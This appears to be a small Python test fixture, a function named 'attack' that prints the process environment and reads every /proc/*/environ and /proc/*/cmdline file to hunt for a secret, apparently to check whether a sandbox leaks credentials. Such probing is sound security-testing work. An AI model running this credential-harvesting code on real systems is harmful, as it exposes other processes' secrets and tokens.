def attack(gate, dout):
    """Print every environment it can find, looking for the secret."""
    import glob
    import os
    print("ATTACK-RAN env", dict(os.environ))
    for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"] + glob.glob("/proc/*/environ") \
            + glob.glob("/proc/*/cmdline"):
        try:
            with open(path, "rb") as f:
                print(path, f.read()[:4000])
        except OSError:
            pass
    raise RuntimeError("printed")
